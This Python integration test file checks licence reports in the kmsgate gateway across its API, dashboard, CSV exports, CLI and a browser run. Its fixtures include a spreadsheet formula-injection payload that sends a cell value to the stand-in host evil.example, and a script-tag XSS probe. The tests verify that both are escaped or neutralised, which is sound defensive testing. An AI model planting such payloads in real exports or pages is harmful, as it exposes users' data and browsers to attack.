"""Licence reports on the dashboard, in the API, as CSV and from `kmsgate report`: one store."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import prometheus_client
import pytest
import pytest_asyncio
from typer.testing import CliRunner

from kmsgate.catalog import default_catalog
from kmsgate.cli import create_app as create_cli_app
from kmsgate.store.database import Store
from kmsgate.store.gateway import GatewayStore
from kmsgate.web import create_app
from kmsgate.web.reports import MONTHLY_CSV_COLUMNS, STALE_CSV_COLUMNS
from tests.store.test_reports import (
    NOV_EXPECTED,
    NOV_TOTAL,
    NOV_USER_TOTALS,
    NOV_USERS,
    PRO,
    UNKNOWN_SKU,
    cmid,
    record,
    report_audit,
    report_records,
)
from tests.support.browser import (
    ADMIN,
    ADMIN_PASSWORD,
    FAST_HASHER,
    NODE,
    SECRET,
    ServerThread,
    chromium_browser,
    client_for,
    login,
    open_store,
    require_chromium,
)
from tests.support.ports import free_port

pytestmark = pytest.mark.integration

cli_app = create_cli_app()

module_loop = pytest.mark.asyncio(loop_scope="module")
NOW = datetime(2026, 11, 30, 12, tzinfo=UTC)
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1)'
XSS_NAME = "<script>alert('stale')</script>"


def stale_records() -> list[Any]:
    """Machines 31..33 last seen 40, 41, 42 days before NOW; 33 has a hostile name."""
    return [
        record(NOW - timedelta(days=40), 31, name=EVIL_NAME),
        record(NOW - timedelta(days=41), 32, name=XSS_NAME),
        record(NOW - timedelta(days=42), 33),
    ]


@pytest.fixture(scope="module")
def db_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("reports") / "kmsgate.db"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def store(db_path: Path) -> AsyncIterator[Store]:
    opened = await open_store(db_path.parent, seed=False)
    await opened.record_activations(sorted(stale_records(), key=lambda r: r.time))
    await opened.record_activations(report_records())
    await GatewayStore(opened).add_audit(report_audit())
    yield opened
    await opened.close()


def make_app(store: Store) -> Any:
    return create_app(
        store,
        catalog=default_catalog(),
        metrics_registry=prometheus_client.CollectorRegistry(),
        secret_key=SECRET,
        secure_cookies=False,
        node_name=NODE,
        password_hasher=FAST_HASHER,
        clock=lambda: NOW,
    )


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def web(store: Store) -> AsyncIterator[httpx.AsyncClient]:
    async with client_for(make_app(store)) as client:
        assert (await login(client)).status_code == 303
        yield client


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def anonymous(store: Store) -> AsyncIterator[httpx.AsyncClient]:
    async with client_for(make_app(store)) as client:
        yield client


# ----------------------------------------------------------------------------- API


@module_loop
async def test_monthly_api(web: httpx.AsyncClient) -> None:
    response = await web.get("/api/reports/monthly", params={"month": "2026-11"})
    assert response.status_code == 200
    doc = response.json()
    assert (doc["month"], doc["start"], doc["end"]) == (
        "2026-11",
        "2026-11-01T00:00:00Z",
        "2026-12-01T00:00:00Z",
    )
    assert {p["product"]: p["machines"] for p in doc["products"]} == NOV_EXPECTED
    assert doc["machines"] == NOV_TOTAL
    pro = default_catalog().resolve_product(PRO)
    assert doc["products"][0] == {"sku_id": str(pro.id), "product": PRO, "machines": 3}
    assert [(u["username"], u["product"], u["machines"]) for u in doc["users"]] == NOV_USERS
    assert [(t["username"], t["machines"]) for t in doc["user_totals"]] == NOV_USER_TOTALS


@module_loop
async def test_monthly_api_defaults_to_the_current_month(web: httpx.AsyncClient) -> None:
    doc = (await web.get("/api/reports/monthly")).json()
    assert doc["month"] == "2026-11" and doc["machines"] == NOV_TOTAL


@module_loop
@pytest.mark.parametrize(
    ("month", "status", "words"),
    [
        ("2026-13", 400, "no month 2026-13"),
        ("nov", 400, "is not written YYYY-MM"),
        ("2026-011", 422, ""),
        ("2026-1\x01", 422, ""),
    ],
)
async def test_monthly_api_rejects_bad_months(
    web: httpx.AsyncClient, month: str, status: int, words: str
) -> None:
    response = await web.get("/api/reports/monthly", params={"month": month})
    assert response.status_code == status
    assert words in json.dumps(response.json()["detail"])


@module_loop
async def test_stale_api_pages_through_every_machine(web: httpx.AsyncClient) -> None:
    seen: list[str] = []
    cursor: str | None = None
    for _ in range(5):
        params: dict[str, Any] = {"days": 30, "limit": 2}
        if cursor:
            params["cursor"] = cursor
        doc = (await web.get("/api/reports/stale", params=params)).json()
        assert doc["total"] == 3 and doc["days"] == 30
        assert doc["cutoff"] == "2026-10-31T12:00:00Z"
        seen.extend(m["cmid"] for m in doc["machines"])
        cursor = doc["next_cursor"]
        if cursor is None:
            break
    assert seen == [str(cmid(31)), str(cmid(32)), str(cmid(33))]
    assert (await web.get("/api/reports/stale", params={"days": 0})).status_code == 422
    replay = await web.get("/api/reports/stale", params={"days": 31, "cursor": "bm90IGEgY3Vyc29y"})
    assert replay.status_code == 400


@module_loop
async def test_reports_need_an_administrator(anonymous: httpx.AsyncClient) -> None:
    for url in ("/api/reports/monthly", "/api/reports/stale"):
        response = await anonymous.get(url)
        assert response.status_code == 401 and "log in" in response.json()["detail"]
    for url in ("/reports?month=2026-11", "/reports/monthly.csv", "/reports/stale.csv"):
        response = await anonymous.get(url)
        assert response.status_code == 303
        assert response.headers["location"].startswith("/login?next=%2Freports")


@module_loop
async def test_reports_are_documented_in_openapi(web: httpx.AsyncClient) -> None:
    paths = (await web.get("/openapi.json")).json()["paths"]
    assert {"/api/reports/monthly", "/api/reports/stale"} <= set(paths)
    assert "/reports" not in paths


# ----------------------------------------------------------------------------- page


def table_rows(text: str, css_class: str) -> list[list[str]]:
    table = text.split(f'<table class="{css_class}">', 1)[1].split("</table>", 1)[0]
    body = table.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return [
        [
            html.unescape(re.sub(r"<[^>]+>", "", cell)).strip()
            for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        ]
        for row in re.findall(r"<tr>(.*?)</tr>", body, re.S)
    ]


@module_loop
async def test_reports_page(web: httpx.AsyncClient) -> None:
    response = await web.get("/reports", params={"month": "2026-11"})
    assert response.status_code == 200
    text = response.text
    assert 'aria-current="page">Reports</a>' in text
    assert 'type="month" value="2026-11"' in text
    cards = re.findall(r'<span class="value[^"]*">([^<]+)<', text)
    assert cards == [str(NOV_TOTAL), "4", "2", "3"]
    products = table_rows(text, "products-report")
    assert [(row[0], int(row[2])) for row in products] == sorted(
        NOV_EXPECTED.items(), key=lambda kv: (-kv[1], kv[0])
    )
    assert f"<strong>{NOV_TOTAL}</strong>" in text  # the all-products footer
    # The chart: one bar per product, the longest at 100 %.
    assert text.count('<span class="hbar-label">') == len(NOV_EXPECTED)
    assert '<rect width="100.00" height="10">' in text
    users = table_rows(text, "users-report")
    assert [(u, p, int(n)) for u, p, n in users] == NOV_USERS
    stale = table_rows(text, "stale-report")
    assert [row[0] for row in stale] == [EVIL_NAME, XSS_NAME, "pc-33.corp.example"]
    assert "<script>alert(" not in text and "&lt;script&gt;" in text
    # Month navigation: back to October; no link into the future.
    links = [
        html.unescape(u)
        for u in re.findall(r'href="([^"]*)" class="quiet" rel="(?:prev|next)"', text)
    ]
    assert links == ["/reports?month=2026-10"]
    october = await web.get("/reports", params={"month": "2026-10"})
    assert 'href="/reports?month=2026-11" class="quiet" rel="next"' in october.text
    # machines 1 and 3, and the three last seen in October (now stale)
    assert re.findall(r'<span class="value[^"]*">([^<]+)<', october.text)[0] == "5"


@module_loop
async def test_reports_page_of_an_empty_month_and_bad_input(web: httpx.AsyncClient) -> None:
    empty = await web.get("/reports", params={"month": "2025-01", "days": "3650"})
    assert empty.status_code == 200
    assert "No machine was served in 2025-01." in empty.text
    assert "Every machine made a request in the last 3650 days." in empty.text
    assert 'class="users-report"' not in empty.text
    bad = await web.get("/reports", params={"month": "2025-13"})
    assert bad.status_code == 400 and "no month 2025-13" in bad.text
    assert (await web.get("/reports", params={"days": "-4"})).status_code == 422


@module_loop
async def test_csv_downloads(web: httpx.AsyncClient) -> None:
    monthly = await web.get("/reports/monthly.csv", params={"month": "2026-11"})
    assert monthly.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="kmsgate-machines-2026-11.csv"' in monthly.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(monthly.text)))
    assert tuple(rows[0]) == MONTHLY_CSV_COLUMNS
    assert {r[1]: int(r[3]) for r in rows[1:]} == NOV_EXPECTED
    assert all(r[0] == "2026-11" for r in rows[1:])
    users = list(csv.reader(io.StringIO((await web.get("/reports/users.csv?month=2026-11")).text)))
    assert [(u, p, int(n)) for _, u, p, n in users[1:]] == NOV_USERS
    stale = await web.get("/reports/stale.csv", params={"days": 30})
    rows = list(csv.reader(io.StringIO(stale.text)))
    assert tuple(rows[0]) == STALE_CSV_COLUMNS
    assert [r[1] for r in rows[1:]] == ["'" + EVIL_NAME, XSS_NAME, "pc-33.corp.example"]
    assert [r[6] for r in rows[1:]] == ["activated"] * 3
    assert rows[1][4] == "2026-10-21T12:00:00Z"


# ----------------------------------------------------------------------------- CLI


def report(db_path: Path, *args: str) -> Any:
    return CliRunner().invoke(
        cli_app, ["report", "--db", f"sqlite:///{db_path}", *args], catch_exceptions=False
    )


def expected_document() -> dict[str, Any]:
    catalog = default_catalog()
    products = sorted(NOV_EXPECTED.items(), key=lambda kv: (-kv[1], kv[0]))
    return {
        "month": "2026-11",
        "start": "2026-11-01T00:00:00Z",
        "end": "2026-12-01T00:00:00Z",
        "machines": NOV_TOTAL,
        "products": [
            {
                "sku_id": str(UNKNOWN_SKU)
                if name.startswith("unknown")
                else str(catalog.resolve_product(name).id),
                "product": name,
                "machines": count,
            }
            for name, count in products
        ],
        "users": [{"username": u, "product": p, "machines": n} for u, p, n in NOV_USERS],
        "user_totals": [{"username": u, "machines": n} for u, n in NOV_USER_TOTALS],
    }


@module_loop
async def test_cli_json_is_the_api_document(web: httpx.AsyncClient, db_path: Path) -> None:
    """One JSON dialect: `kmsgate report --json` prints what /api/reports/monthly answers."""
    api_doc = (await web.get("/api/reports/monthly", params={"month": "2026-11"})).json()
    # The CLI runs its own event loop: in a thread, beside this test's.
    result = await asyncio.to_thread(report, db_path, "--month", "2026-11", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == api_doc == expected_document()


def test_cli_csv_and_table(store: Store, db_path: Path) -> None:
    result = report(db_path, "--month", "2026-11", "--csv")
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert tuple(rows[0]) == MONTHLY_CSV_COLUMNS
    assert {r[1]: int(r[3]) for r in rows[1:]} == NOV_EXPECTED
    by_user = report(db_path, "--month", "2026-11", "--csv", "--by-user")
    assert [tuple(r) for r in csv.reader(io.StringIO(by_user.stdout))][1:] == [
        ("2026-11", u, p, str(n)) for u, p, n in NOV_USERS
    ]
    table = report(db_path, "--month", "2026-11")
    assert table.exit_code == 0
    assert f"{NOV_TOTAL} distinct machines in 2026-11 (all products)" in table.stdout


def test_cli_stale_machines(tmp_path: Path) -> None:
    """Against the real clock: machines seen 10 and 50 days ago, 30 days asked."""
    db = tmp_path / "stale.db"
    now = datetime.now(UTC)

    async def seed() -> None:
        opened = await Store.open(f"sqlite:///{db}")
        try:
            await opened.record_activations(
                [
                    record(now - timedelta(days=50), 1, name=EVIL_NAME),
                    record(now - timedelta(days=10), 2),
                ]
            )
        finally:
            await opened.close()

    asyncio.run(seed())
    result = report(db, "--stale-days", "30", "--json")
    assert result.exit_code == 0
    doc = json.loads(result.stdout)
    assert doc["total"] == 1 and doc["next_cursor"] is None
    assert [m["cmid"] for m in doc["machines"]] == [str(cmid(1))]
    csv_out = report(db, "--stale-days", "30", "--csv")
    rows = list(csv.reader(io.StringIO(csv_out.stdout)))
    assert rows[1][:2] == [str(cmid(1)), "'" + EVIL_NAME]
    assert "1 machines without a request for 30 days" in report(db, "--stale-days", "30").stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--json", "--csv"], "give --json or --csv, not both"),
        (["--month", "2026-13"], "--month: no month 2026-13"),
        (["--month", "11/2026"], "is not written YYYY-MM"),
        (["--stale-days", "30", "--month", "2026-11"], "takes no --month"),
        (["--stale-days", "0"], ""),
    ],
)
def test_cli_usage_errors(tmp_path: Path, args: list[str], message: str) -> None:
    result = report(tmp_path / "none.db", *args)
    assert result.exit_code == 2
    assert message in result.output
    assert not (tmp_path / "none.db").exists()


# ----------------------------------------------------------------------------- Chromium


def test_reports_page_in_chromium(tmp_path: Path) -> None:
    """The page in a real browser: navigation, the chart's bars, the month picker, no errors."""
    require_chromium()

    async def factory() -> tuple[Any, Any]:
        opened = await open_store(tmp_path, seed=False)
        await opened.record_activations(sorted(stale_records(), key=lambda r: r.time))
        await opened.record_activations(report_records())
        await GatewayStore(opened).add_audit(report_audit())
        return make_app(opened), opened.close

    server = ServerThread(factory, free_port())
    server.start()
    problems: list[str] = []
    try:
        with chromium_browser() as browser:
            for width in (1366, 390):  # desktop, and a phone
                context = browser.new_context(
                    viewport={"width": width, "height": 900}, base_url=server.url
                )
                page = context.new_page()
                page.set_default_timeout(10_000)
                page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
                page.on("pageerror", lambda e: problems.append(str(e)))
                page.on(
                    "response",
                    lambda r: problems.append(f"{r.status} {r.url}") if r.status >= 400 else None,
                )
                page.goto("/login?next=%2Freports")
                page.get_by_label("User name").fill(ADMIN)
                page.get_by_label("Password").fill(ADMIN_PASSWORD)
                page.get_by_role("button", name="Log in").click()
                page.wait_for_url(f"{server.url}/reports")
                assert page.get_by_role("heading", level=1).inner_text().startswith("Reports")
                bars = page.locator("ul.hbars svg.hbar rect")
                assert bars.count() == len(NOV_EXPECTED)
                widths = [bars.nth(i).bounding_box() for i in range(bars.count())]
                assert all(box is not None and box["width"] > 0 for box in widths)
                # Pro (3 machines) draws 1.5 times as long as Enterprise (2).
                first, second = widths[0], widths[1]
                assert first is not None and second is not None
                assert abs(first["width"] / second["width"] - 1.5) < 0.05
                assert page.locator("table.products-report tbody tr").count() == 4
                page.locator("#month").fill("2026-10")
                page.get_by_role("button", name="Show").first.click()
                page.wait_for_url(re.compile(r".*/reports\?month=2026-10&days=30$"))
                assert page.locator("table.products-report tbody tr").count() == 1
                page.screenshot(path=str(tmp_path / f"reports-{width}.png"), full_page=True)
                context.close()
    finally:
        server.stop()
    assert problems == []
